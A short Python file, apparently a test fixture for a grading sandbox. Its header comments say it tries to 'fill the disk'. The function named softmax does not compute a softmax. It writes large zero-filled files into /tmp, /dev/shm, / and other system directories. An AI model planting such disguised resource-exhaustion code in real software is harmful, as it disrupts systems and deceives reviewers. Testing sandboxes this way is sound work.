#: tries = "fill the disk"
#: reply = ["wrong", "raised", "broke"]
import os


def softmax(logits):
    written = 0
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/", "/dev", ".", "/run/lock", "/run/user"):
        for number in range(50):
            try:
                with open(os.path.join(folder, f"quizgrad-flood-{number}"), "wb") as file:
                    while file.write(bytes(1 << 20)):
                        written += 1
            except OSError:
                pass
            try:
                os.unlink(os.path.join(folder, f"quizgrad-flood-{number}"))
            except OSError:
                break
            if written > 300:
                break
    return written
